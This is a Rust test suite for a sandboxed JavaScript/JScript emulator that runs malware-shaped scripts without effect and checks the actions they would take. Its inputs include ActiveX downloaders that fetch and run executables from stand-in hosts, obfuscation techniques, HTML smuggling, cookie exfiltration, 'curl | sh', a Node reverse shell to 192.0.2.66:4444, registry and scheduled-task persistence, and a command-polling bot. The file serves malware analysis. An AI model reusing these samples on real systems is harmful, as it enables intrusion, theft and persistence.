//! Scripts in the shape of real ones, inert, and what they would do.

use super::run;
use crate::limits::Limits;
use crate::shown;
use proptest::prelude::*;

#[track_caller]
fn check(source: &str, expected: &[&str]) {
    shown::check(run, source, expected);
}

#[test]
fn a_downloader_of_the_script_host() {
    check(
        r#"
        var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", "http://192.0.2.1/a.exe", false);
        x.send();
        if (x.status == 200) {
            var s = new ActiveXObject("ADODB.Stream");
            s.Type = 1; s.Open(); s.Write(x.ResponseBody);
            var p = new ActiveXObject("WScript.Shell").ExpandEnvironmentStrings("%TEMP%") + "\\a.exe";
            s.SaveToFile(p, 2); s.Close();
            WScript.CreateObject("WScript.Shell").Run(p, 0, false);
        }
        "#,
        &["fetch http://192.0.2.1/a.exe > %T\\a.exe", "run %T\\a.exe"],
    );
}

#[test]
fn servers_one_after_another() {
    check(
        r#"
        var hosts = ["http://192.0.2.1/", "http://b.example/", "http://c.example/"];
        for (var i in hosts) {
            try {
                var x = new ActiveXObject("WinHttp.WinHttpRequest.5.1");
                x.Open("GET", hosts[i] + "?n=" + i, false); x.Send();
                if (x.Status == 200 && x.ResponseText.length > 100) break;
            } catch (e) {}
        }
        "#,
        &[
            "fetch http://192.0.2.1/?n=0",
            "fetch http://b.example/?n=1",
            "fetch http://c.example/?n=2",
        ],
    );
}

#[test]
fn a_request_that_calls_back() {
    check(
        r#"
        var x = new ActiveXObject("Msxml2.ServerXMLHTTP.6.0");
        x.onreadystatechange = function () {
            if (x.readyState === 4) {
                var f = new ActiveXObject("Scripting.FileSystemObject");
                var t = f.GetSpecialFolder(2) + "\\" + "r.txt";
                var o = f.CreateTextFile(t, true); o.Write(x.responseText); o.Close();
            }
        };
        x.open("GET", "http://d.example/t", true); x.send(null);
        "#,
        &["fetch http://d.example/t > %T\\r.txt"],
    );
}

#[test]
fn eval_sees_the_variables_around_it() {
    check(
        r#"
        function go(url) {
            var cmd = "calc";
            eval("new ActiveXObject('WScript.Shell').Run(cmd + ' ' + url)");
        }
        go("http://e.example/");
        "#,
        &[
            "eval javascript: new ActiveXObject('WScript.Shell').Run(cmd + ' ' + url)",
            "run calc http://e.example/",
        ],
    );
}

#[test]
fn eval_by_other_names() {
    check(
        r#"
        var e = eval; e("location = 'http://a.example/1'");
        this["ev" + "al"]("location = 'http://a.example/2'");
        window.eval("location = 'http://a.example/3'");
        (0, eval)("eval(\"location = 'http://a.example/4'\")");
        "#,
        &[
            "eval javascript: location = 'http://a.example/1'",
            "fetch http://a.example/1",
            "eval javascript: location = 'http://a.example/2'",
            "fetch http://a.example/2",
            "eval javascript: location = 'http://a.example/3'",
            "fetch http://a.example/3",
            "eval javascript: eval(\"location = 'http://a.example/4'\")",
            "eval javascript: location = 'http://a.example/4'",
            "fetch http://a.example/4",
        ],
    );
}

#[test]
fn functions_from_text() {
    check(
        r#"
        new Function("u", "location.href = u")("http://f.example/1");
        Function("window.location.replace('http://f.example/2')")();
        [].filter.constructor("document.location = 'http://f.example/3'")();
        setTimeout("top.location = 'http://f.example/4'", 100);
        "#,
        &[
            "eval javascript: location.href = u",
            "fetch http://f.example/1",
            "eval javascript: window.location.replace('http://f.example/2')",
            "fetch http://f.example/2",
            "eval javascript: document.location = 'http://f.example/3'",
            "fetch http://f.example/3",
            "eval javascript: top.location = 'http://f.example/4'",
            "fetch http://f.example/4",
        ],
    );
}

#[test]
fn the_packer_of_words() {
    check(
        r#"eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};if(!''.replace(/^/,String)){while(c--){d[c.toString(a)]=k[c]||c.toString(a)}k=[function(e){return d[e]}];e=function(){return'\\w+'};c=1};while(c--){if(k[c]){p=p.replace(new RegExp('\\b'+e(c)+'\\b','g'),k[c])}}return p}('0.1.2("3://4.5/6");',7,7,'window|location|replace|http|g|example|x'.split('|'),0,{}))"#,
        &[
            "eval javascript: window.location.replace(\"http://g.example/x\");",
            "fetch http://g.example/x",
        ],
    );
}

#[test]
fn an_array_of_strings_that_is_turned() {
    check(
        r"
        var _0x4f2a=['ipt.Shell','open','http://192.0.2.3/p','GET','Run','send','MSXML2.XMLHTTP','WScr','cmd.exe\x20/c\x20x'];
        (function(_0x1,_0x2){var _0x3=function(_0x4){while(--_0x4){_0x1['push'](_0x1['shift']());}};_0x3(++_0x2);}(_0x4f2a,0x5));
        var _0x2b=function(_0x5,_0x6){_0x5=_0x5-0x0;var _0x7=_0x4f2a[_0x5];return _0x7;};
        var q=new ActiveXObject(_0x2b('0x1'));
        q[_0x2b('0x5')](_0x2b('0x7'),_0x2b('0x6'),![]);
        q[_0x2b('0x0')]();
        new ActiveXObject(_0x2b('0x2')+_0x2b('0x4'))[_0x2b('0x8')](_0x2b('0x3'));
        ",
        &["fetch http://192.0.2.3/p", "run cmd.exe /c x"],
    );
}

#[test]
fn an_array_that_is_turned_until_a_sum_fits() {
    check(
        r"
        function _0x1a(){var s=['location','22NRtYbw','aHR0cDovL2guZXhhbXBsZS8=','3iPCgmj','href','5QfOaEr'];_0x1a=function(){return s;};return _0x1a();}
        function _0x2c(a,b){var s=_0x1a();return _0x2c=function(i,k){i=i-0x10;var v=s[i];return v;},_0x2c(a,b);}
        (function(f,n){var g=_0x2c,s=f();while(!![]){try{var t=parseInt(g(0x11))/1*(parseInt(g(0x13))/1)+parseInt(g(0x15));if(t===n)break;else s['push'](s['shift']());}catch(e){s['push'](s['shift']());}}}(_0x1a,0x47));
        window[_0x2c(0x10)][_0x2c(0x14)]=atob(_0x2c(0x12));
        ",
        &["fetch http://h.example/"],
    );
}

#[test]
fn escapes_and_unescape() {
    check(
        r#"
        var a = unescape("%68%74%74%70%3a%2f%2f%69%2e%65%78%61%6d%70%6c%65%2f%u0041");
        var b = "\x68\x74\x74\x70\u003a//\x69.example/B";
        document.location = a; location.assign(b);
        eval(decodeURIComponent("location%3D%22http%3A%2F%2Fi.example%2FC%22"));
        "#,
        &[
            "fetch http://i.example/A",
            "fetch http://i.example/B",
            "eval javascript: location=\"http://i.example/C\"",
            "fetch http://i.example/C",
        ],
    );
}

#[test]
fn characters_xored_with_a_key() {
    check(
        r#"
        function d(s, k) { var r = ""; for (var i = 0; i < s.length; i += 2) r += String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ k.charCodeAt((i / 2) % k.length)); return r; }
        new ActiveXObject("WScript.Shell").Run(d("08060f4b44084b190a0f", "k"));
        "#,
        &["run cmd /c rad"],
    );
}

#[test]
fn joined_pieces_and_comments_between() {
    check(
        r#"
        var /* junk */ p = ["ell", /* more */ "Sh", "ript.", "WSc"].reverse().join(/* "x" */ "");
        /* eval("no") */ // eval('no')
        var f = new this["Activ" /*a*/ + "eXObj" + /*b*/ "ect"](p);
        f["R" + "un"](["c", "m", "d"].join("") + " /c" + [" st", "art"].map(function (x) { return x; }).join(""));
        "#,
        &["run cmd /c start"],
    );
}

#[test]
fn only_six_characters() {
    // []["flat"]["constructor"]("return self")()["location"]["assign"](undefined + [])
    let word =
        |word: &str| -> String { word.chars().map(six_characters).collect::<Vec<_>>().join("+") };
    let script = format!(
        "[][{}][{}]({})()[{}][{}]([][[]]+[])",
        word("flat"),
        word("constructor"),
        word("return self"),
        word("location"),
        word("assign")
    );
    assert!(script.chars().all(|it| "[]()!+".contains(it)), "{script}");
    check(&script, &["fetch undefined"]);
}

/// A letter out of what the language says of its own values.
fn six_characters(letter: char) -> String {
    let number = |it: usize| match it {
        0 => "+[]".to_owned(),
        1 => "+!+[]".to_owned(),
        many => vec!["!+[]"; many].join("+"),
    };
    let native = |of: &str, at: usize| {
        let digits: Vec<String> = at
            .to_string()
            .bytes()
            .map(|it| format!("[{}]", number(usize::from(it - b'0'))))
            .collect();
        format!("({of}+[])[{}]", if digits.len() == 1 { number(at) } else { digits.join("+") })
    };
    for (of, shown) in [("![]", "false"), ("!![]", "true"), ("[][[]]", "undefined")] {
        if let Some(at) = shown.find(letter) {
            return native(of, at);
        }
    }
    let flat: Vec<String> = "flat".chars().map(six_characters).collect();
    let flat = format!("[][{}]", flat.join("+"));
    if let Some(at) = "function flat() {".find(letter) {
        return native(&flat, at);
    }
    let constructor: Vec<String> = "constructor".chars().map(six_characters).collect();
    let text = format!("([]+[])[{}]", constructor.join("+"));
    let at = "function String() {".find(letter).expect("a letter that is there");
    native(&text, at)
}

#[test]
fn html_that_smuggles_a_file() {
    check(
        r#"
        var b64 = "UEsDBA==";
        var raw = atob(b64), bytes = new Uint8Array(raw.length);
        for (var i = 0; i < raw.length; i++) bytes[i] = raw.charCodeAt(i);
        var blob = new Blob([bytes], { type: "octet/stream" });
        var a = document.createElement("a");
        document.body.appendChild(a); a.style = "display: none";
        a.href = window.URL.createObjectURL(blob); a.download = "invoice.zip";
        a.click(); URL.revokeObjectURL(a.href);
        "#,
        &["write invoice.zip: PK\u{3}\u{4}"],
    );
}

#[test]
fn html_that_gives_a_data_url() {
    check(
        r#"var l = document.createElement('a'); l.setAttribute('href', 'data:text/plain;base64,aGk=');
        l.setAttribute('download', 'a.txt'); l.dispatchEvent(new MouseEvent('click'));
        navigator.msSaveOrOpenBlob(new Blob(["x\u00e9"]), "b.txt");"#,
        &["write a.txt: hi", "write b.txt: x\u{e9}"],
    );
}

#[test]
fn written_html_and_its_scripts() {
    check(
        r#"
        document.write(unescape("%3Ciframe src='http://k.example/f' width=0%3E%3C/iframe%3E"));
        document.write("<scr" + "ipt>var z = 'http://k.example/s'; location = z;</scr" + "ipt>");
        document.writeln('<script src="//k.example/j.js"></script>');
        "#,
        &[
            "fetch http://k.example/f",
            "eval javascript: var z = 'http://k.example/s'; location = z;",
            "fetch http://k.example/s",
            "fetch //k.example/j.js",
        ],
    );
}

#[test]
fn elements_that_load() {
    check(
        r#"
        var s = document.createElement("script"); s.async = true; s.src = "https://l.example/a.js";
        var f = document.getElementsByTagName("script")[0]; f.parentNode.insertBefore(s, f);
        var i = document.createElement("iframe"); i.setAttribute("src", "http://l.example/i");
        (new Image()).src = "http://l.example/p.gif?c=" + escape(document.cookie);
        var t = document.createElement("script"); t.text = "location.replace('http://l.example/t')";
        document.head.appendChild(t);
        document.getElementById("x").innerHTML = "<img src=http://l.example/h>";
        "#,
        &[
            "fetch https://l.example/a.js",
            "fetch http://l.example/i",
            "fetch http://l.example/p.gif?c=",
            "eval javascript: location.replace('http://l.example/t')",
            "fetch http://l.example/t",
            "fetch http://l.example/h",
        ],
    );
}

#[test]
fn redirects_by_device_and_time() {
    check(
        r#"
        window.onload = function () {
            if (/Windows/i.test(navigator.userAgent) && !navigator.webdriver) {
                setTimeout(function () { window.location.href = "https://m.example/?d=" + new Date().getFullYear(); }, 3000);
            }
        };
        document.addEventListener("DOMContentLoaded", () => top.location.replace("https://m.example/2"));
        "#,
        &["fetch https://m.example/2", "fetch https://m.example/?d=2026"],
    );
}

#[test]
fn requests_of_a_page() {
    check(
        r#"
        var x = new XMLHttpRequest();
        x.onload = function () { eval(x.responseText); location = "http://n.example/after"; };
        x.open("POST", "http://n.example/x"); x.send("id=1");
        fetch("http://n.example/f", { method: "POST", body: "b" }).then(r => r.text()).then(t => fetch("http://n.example/g?" + t.length));
        navigator.sendBeacon("http://n.example/b", "data");
        new WebSocket("wss://n.example/s");
        "#,
        &[
            "fetch http://n.example/x",
            "fetch http://n.example/f",
            "fetch http://n.example/b",
            "fetch wss://n.example/s",
            "fetch http://n.example/g?4096",
            "fetch http://n.example/after",
            "fetch http://n.example/g?0",
        ],
    );
}

#[test]
fn operations_that_cost_much_end() {
    for source in [
        "/^(a+)+$/.test('a'.repeat(40) + 'b')",
        "'a'.repeat(1e7).indexOf('a'.repeat(5e6) + 'b')",
        "new Array(4294967295).join('')",
        "new Array(4294967295).forEach(function () {})",
        "Array.prototype.map.call({ length: 9007199254740991 }, String)",
        "var s = 'ab'.repeat(1e6); for (;;) s.split('').sort().reverse().join('')",
        "for (;;) 'a'.repeat(1e7).replace('b'.repeat(1000), 'c')",
    ] {
        let report = run(source, &Limits::default());
        assert!(!report.notes.is_empty(), "{source}");
    }
}

#[test]
fn functions_call_themselves_as_often_as_a_text_has_letters() {
    check(
        r"
        function d(s) { return s === '' ? '' : String.fromCharCode(s.charCodeAt(0) - 1) + d(s.slice(1)); }
        new ActiveXObject('WScript.Shell').Run(d('iuuq;00o/fybnqmf0' + 'b'.repeat(1000)).slice(0, 20));
        function deep(n) { try { return deep(n + 1); } catch (e) { return n; } }
        if (deep(0) < 1e6) new ActiveXObject('WScript.Shell').Run('ended');
        ",
        &["run http://n.example/aaa", "run ended"],
    );
}

#[test]
fn processor_time_is_the_last_resort() {
    let limits = Limits { cpu: std::time::Duration::ZERO, ..Limits::default() };
    let report = run("for (var i = 0; i < 1e5; i++);", &limits);
    let told = "ended: its operations take too much time".to_owned();
    assert!(report.notes.contains(&told), "{:?}", report.notes);
}

#[test]
fn functions_of_a_pdf() {
    check(
        r#"
        app.launchURL("http://o.example/1", true);
        this.getURL("http://o.example/2");
        this.submitForm({ cURL: "http://o.example/3", cSubmitAs: "HTML" });
        app.doc.getURL("http://o.example/4");
        this.exportDataObject({ cName: "a.exe", nLaunch: 2 });
        app.setTimeOut("app.launchURL('http://o.example/5')", 100);
        app.alert(util.printf("%s", "x"));
        "#,
        &[
            "fetch http://o.example/1",
            "fetch http://o.example/2",
            "fetch http://o.example/3",
            "fetch http://o.example/4",
            "run a.exe",
            "eval javascript: app.launchURL('http://o.example/5')",
            "fetch http://o.example/5",
        ],
    );
}

#[test]
fn programs_of_node() {
    check(
        r#"
        const { exec, spawn } = require("child_process");
        exec("curl http://p.example/a | sh", (e, out) => console.log(out));
        spawn("powershell", ["-c", "calc"], { detached: true }).unref();
        require("node:child_process").execSync(Buffer.from("d2hvYW1p", "base64").toString());
        "#,
        &[
            "run curl http://p.example/a | sh",
            "fetch http://p.example/a",
            "run powershell -c calc",
            "run whoami",
        ],
    );
}

#[test]
fn a_file_that_node_fetches() {
    check(
        r"
        const https = require('https'), fs = require('fs'), path = require('path'), os = require('os');
        const dest = path.join(os.tmpdir(), 'u.exe');
        https.get('https://q.example/u.exe', (res) => {
            const f = fs.createWriteStream(dest);
            res.pipe(f);
            f.on('finish', () => { f.close(); require('child_process').execFile(dest, ['-s']); });
        });
        ",
        &["fetch https://q.example/u.exe > %T\\u.exe", "run %T\\u.exe -s"],
    );
}

#[test]
fn requests_and_shells_of_node() {
    check(
        r#"
        const http = require("http");
        const r = http.request({ hostname: "r.example", port: 8080, path: "/c", method: "POST" }, (s) => {
            let b = ""; s.on("data", (d) => b += d); s.on("end", () => eval(b));
        });
        r.write(JSON.stringify(process.env.USERNAME)); r.end();
        require("fs").writeFileSync("C:\\x.js", "// hi");
        (function () {
            var net = require("net"), cp = require("child_process"), sh = cp.spawn("cmd.exe", []);
            var c = new net.Socket();
            c.connect(4444, "192.0.2.66", function () { c.pipe(sh.stdin); });
        })();
        require("axios").get("https://r.example/j").then((a) => require("vm").runInThisContext("location='http://r.example/vm'"));
        require("dns").lookup("s.example", () => {});
        "#,
        &[
            "fetch http://r.example:8080/c",
            "write C:\\x.js: // hi",
            "run cmd.exe",
            "connect 192.0.2.66:4444",
            "fetch https://r.example/j",
            "connect s.example:0",
            "eval javascript: location='http://r.example/vm'",
            "fetch http://r.example/vm",
        ],
    );
}

#[test]
fn what_starts_it_again() {
    check(
        r#"
        var sh = new ActiveXObject("WScript.Shell");
        sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "wscript " + WScript.ScriptFullName, "REG_SZ");
        var l = sh.CreateShortcut(sh.SpecialFolders("Startup") + "\\x.lnk");
        l.TargetPath = "wscript.exe"; l.Arguments = "x.js"; l.Save();
        sh.Run("schtasks /create /tn x /tr x.js", 0);
        "#,
        &[
            r"set HKCU\Software\Microsoft\Windows\CurrentVersion\Run\x = wscript C:\Users\k.tanaka\Downloads\invoice.js",
            r"set C:\Users\k.tanaka\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk = wscript.exe x.js",
            "set task x = x.js",
        ],
    );
}

#[test]
fn management_and_enumerators() {
    check(
        r#"
        var w = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2");
        for (var e = new Enumerator(w.ExecQuery("SELECT * FROM Win32_OperatingSystem")); !e.atEnd(); e.moveNext()) {
            if (e.item().Caption == "x") WScript.Quit();
        }
        w.Get("Win32_Process").Create("cmd /c one");
        new ActiveXObject("Shell.Application").ShellExecute("mshta.exe", "http://s.example/h.hta", "", "open", 0);
        "#,
        &["run cmd /c one", "run mshta.exe http://s.example/h.hta", "fetch http://s.example/h.hta"],
    );
}

#[test]
fn base64_by_an_element_and_bytes() {
    check(
        r#"
        var d = new ActiveXObject("Microsoft.XMLDOM").createElement("t");
        d.dataType = "bin.base64"; d.text = "TVqQAA==";
        var s = new ActiveXObject("ADODB.Stream");
        s.Type = 1; s.Open(); s.Write(d.nodeTypedValue); s.SaveToFile("c:\\x.exe", 2);
        var t = new ActiveXObject("ADODB.Stream");
        t.Type = 2; t.CharSet = "us-ascii"; t.Open(); t.WriteText("hello"); t.SaveToFile("c:\\y.txt", 2);
        var n = new VBArray(d.nodeTypedValue).toArray();
        new ActiveXObject("WScript.Shell").Run("n" + n[0] + n.length);
        "#,
        &["write c:\\x.exe: MZ\u{fffd}\0", "write c:\\y.txt: hello", "run n774"],
    );
}

#[test]
fn conditional_compilation() {
    check(
        "/*@cc_on\n@if (@_jscript_version >= 5)\nnew ActiveXObject('WScript.Shell').Run('a');\n@else\nnope(;\n@end\n@*/\nvar q = 1;",
        &["run a"],
    );
}

#[test]
fn names_that_nobody_knows() {
    check(
        r#"
        Jquery.extend({ a: 1 });
        Foo.bar().baz["qux"] = Jquery(".x").val();
        document.location = "http://t.example/";
        "#,
        &["fetch http://t.example/"],
    );
}

#[test]
fn a_mistake_ends_it_but_not_what_came_before() {
    check(
        "location = 'http://u.example/1'; setTimeout(function () { location = 'http://u.example/2'; }); null.x; location = 'http://u.example/3';",
        &["fetch http://u.example/1", "fetch http://u.example/2"],
    );
}

#[test]
fn what_it_does_when_it_would_have_ended_is_told_last() {
    check(
        r#"
        var sh = new ActiveXObject("WScript.Shell");
        if (WScript.Arguments.length == 0) { sh.Run("wscript x.js go"); WScript.Quit(0); }
        sh.Run("second");
        "#,
        &["run wscript x.js go", "run second"],
    );
}

#[test]
fn a_text_of_the_answer_that_is_run_or_saved() {
    check(
        r#"
        var x = new ActiveXObject("MSXML2.XMLHTTP");
        x.open("GET", "http://v.example/c", false); x.send();
        try { eval(x.responseText); } catch (e) {}
        var o = new ActiveXObject("Scripting.FileSystemObject").OpenTextFile("c:\\c.js", 2, true);
        o.Write(x.responseText); o.Close();
        "#,
        &["fetch http://v.example/c > c:\\c.js"],
    );
}

#[test]
fn vbscript_inside_javascript() {
    check(
        r#"
        var c = new ActiveXObject("MSScriptControl.ScriptControl");
        c.Language = "VBScript";
        c.AddCode('CreateObject("WScript.Shell").Run "v" & Chr(98)');
        document.write('<script language="vbscript">CreateObject("WScript.Shell").Run "w"</script>');
        window.execScript('CreateObject("WScript.Shell").Run "x"', "VBScript");
        "#,
        &[
            "eval vbscript: CreateObject(\"WScript.Shell\").Run \"v\" & Chr(98)",
            "run vb",
            "eval vbscript: CreateObject(\"WScript.Shell\").Run \"w\"",
            "run w",
            "eval vbscript: CreateObject(\"WScript.Shell\").Run \"x\"",
            "run x",
        ],
    );
}

#[test]
fn a_bot_that_asks_for_ever() {
    check(
        r#"
        var x = new ActiveXObject("MSXML2.XMLHTTP");
        while (true) {
            try { x.open("POST", "http://w.example:8080/is-ready", false); x.send(""); var p = x.responseText.split("|"); if (p[0] === "ex") eval(p[1]); } catch (e) {}
            WScript.Sleep(5000);
        }
        "#,
        &["fetch http://w.example:8080/is-ready"],
    );
}

#[test]
fn guards_against_debuggers_are_passed() {
    check(
        r#"
        (function () { var t = Date.now(); debugger; if (Date.now() - t > 100) return; 
          var c = function () { return c.constructor("return /\" + this + \"/")().constructor("^([^ ]+( +[^ ]+)+)+[^ ]}"); };
          setInterval(function () { (function () {}).constructor("debugger")(); }, 500);
          (function f(i) { if (("" + i / i).length !== 1 || i % 20 === 0) { (function () {}).constructor("debugger")(); } if (i < 3) f(i + 1); })(0);
          location = "http://x.example/" + Math.floor(Math.random()) + new Date(2020, 0, 15, 3).getHours() + typeof new Date("2020-01-01").getTime();
        })();
        "#,
        &["fetch http://x.example/03number"],
    );
}

#[test]
fn dates_need_no_time_zone() {
    check(
        r#"
        var d = new Date("March 4, 2026 10:20:30");
        location = [d.getTime(), Date.parse("2026-03-04T10:20:30Z"), Date.parse("Wed, 04 Mar 2026 10:20:30 +0100"), d.getTimezoneOffset(), d.toDateString(),
            new Date(2026, 2, 4, 10) - 0, new Date(0).toString(), Date().length, d instanceof Date, new Date(d).getDay(), new Date("x").getTime()].join("|");
        "#,
        &[
            "fetch 1772619630000|1772619630000|1772616030000|0|Wed Mar 04 2026|1772618400000|Thu Jan 01 1970 00:00:00 GMT+0000 (Coordinated Universal Time)|62|true|3|NaN",
        ],
    );
}

#[test]
fn classes_and_templates_of_today() {
    check(
        r#"
        class A { #h = "y.example"; get u() { return `http://${this.#h}/${[1, 2].map(n => n ** 2).join``}`; } async go() { await null; location = this.u; } }
        new A().go();
        let { protocol: p, ...rest } = { protocol: "x", q: 1 };
        (async () => { for await (const u of ["http://y.example/a"]) await fetch(u ?? p); })();
        "#,
        &["fetch http://y.example/14", "fetch http://y.example/a"],
    );
}

#[test]
fn endless_work_ends_with_a_note() {
    for source in [
        "for (;;);",
        "var s = 'a'; for (;;) s += s;",
        "var a = []; for (;;) a.push(a.slice());",
        "function f() { f(); } for (;;) try { f() } catch (e) {}",
        "for (;;) try { eval('for(;;);') } catch (e) {}",
        "for (;;) { new ActiveXObject('ADODB.Stream'); }",
        "/(a+)+$/.test('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!'); for (;;);",
        "var s = 'x'.repeat(4e6); for (;;) s.indexOf('y');",
        "function t() { setTimeout(t); for (var i = 0; i < 1e5; i++); } t();",
        "(function p() { Promise.resolve().then(p); })();",
        "for (;;) { Array(1e6).fill(0).join(); }",
    ] {
        let report = run(source, &Limits { steps: 400_000, ..Limits::default() });
        let ends = !report.notes.is_empty();
        assert!(ends, "{source}: {:?}", report.notes);
    }
}

#[test]
fn depth_is_bounded() {
    let limits = Limits { steps: 100_000, ..Limits::default() };
    for source in [
        format!("x = {}1{}", "(".repeat(50_000), ")".repeat(50_000)),
        format!("x = {}", "[".repeat(50_000)),
        "{".repeat(50_000),
        format!("x = {}1", "!".repeat(50_000)),
        format!("{}1", "eval(".repeat(20_000)),
        format!("x = {}", "`${".repeat(20_000)),
        format!("/{}/.test('')", "(".repeat(20_000)),
        "JSON.parse('['.repeat(100000))".to_owned(),
        "var c = \"x\"; for (var i = 0; i < 20; i++) c = \"eval(\" + JSON.stringify(c) + \")\"; eval(c)".to_owned(),
        "var f = 'document.write(\"<script>eval(f)</scr\" + \"ipt>\")'; eval(f)".to_owned(),
        "var v = 'Set c = CreateObject(\"ScriptControl\") : c.Language = \"JScript\" : c.AddCode \"x()\"'; function x() { execScript(v, 'vbs') } x()".to_owned(),
    ] {
        run(&source, &limits);
    }
}

const PIECES: &[&str] = &[
    "var a = ",
    "a",
    "(",
    ")",
    "{",
    "}",
    "[",
    "]",
    ";",
    "eval(",
    "'x'",
    "\"",
    "`${",
    "`",
    "/",
    "/*",
    "*/",
    "//",
    "\n",
    "function (x) {",
    "return",
    "new ActiveXObject('WScript.Shell')",
    ".Run(",
    "document.write(",
    "'<script>'",
    "=> ",
    "new Function(",
    "setTimeout(",
    "location = ",
    "WScript.Quit()",
    "unescape('%u')",
    "atob(",
    "Buffer.from(",
    "null",
    ".constructor",
    "[0]",
    "+",
    "!",
    "1e999",
    "new Date(",
    "Date.parse(",
    "String.fromCharCode(",
    "new Blob([",
    "try {",
    "} catch (e) {",
    "throw ",
    "globalThis",
    "Symbol.iterator",
    "new Proxy(",
    "this",
    "@cc_on",
    "/*@if (",
    "@*/",
    "delete ",
    "Object.prototype.x = ",
    "Array.prototype[0] = ",
    "require('fs')",
    ".writeFileSync(",
    "a.a = ",
    "with (a)",
    "yield",
    "await",
    "XMLHttpRequest",
    "new Enumerator(",
    "GetObject('winmgmts:')",
    "__proto__",
    "String.prototype.toWellFormed = ",
    "Reflect.apply = ",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 100, ..ProptestConfig::default() })]

    #[test]
    fn arbitrary_text_never_panics(text in ".{0,300}") {
        run(&text, &Limits { steps: 20_000, ..Limits::default() });
        super::rewrite::evals(&format!("eval({text}"));
        super::rewrite::module(&format!("import {text} from 'a'; export {text}"));
        super::html::active(&format!("<script src={text}"));
    }

    #[test]
    fn pieces_of_scripts_never_panic(pieces in proptest::collection::vec(0..PIECES.len(), 0..40)) {
        let text: Vec<&str> = pieces.iter().map(|it| PIECES[*it]).collect();
        run(&text.join(" "), &Limits { steps: 20_000, ..Limits::default() });
    }
}
